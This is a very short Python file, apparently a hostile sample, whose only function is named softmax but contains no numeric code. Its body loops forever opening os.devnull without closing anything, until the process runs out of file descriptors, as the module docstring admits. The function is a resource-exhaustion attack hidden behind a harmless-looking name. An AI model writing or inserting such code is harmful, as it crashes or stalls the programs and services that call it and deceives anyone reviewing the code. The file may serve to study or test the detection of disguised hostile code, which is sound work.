"""Opens files until there are no descriptors left."""

import os


def softmax(x, axis=-1):
    while True:
        os.open(os.devnull, os.O_RDONLY)
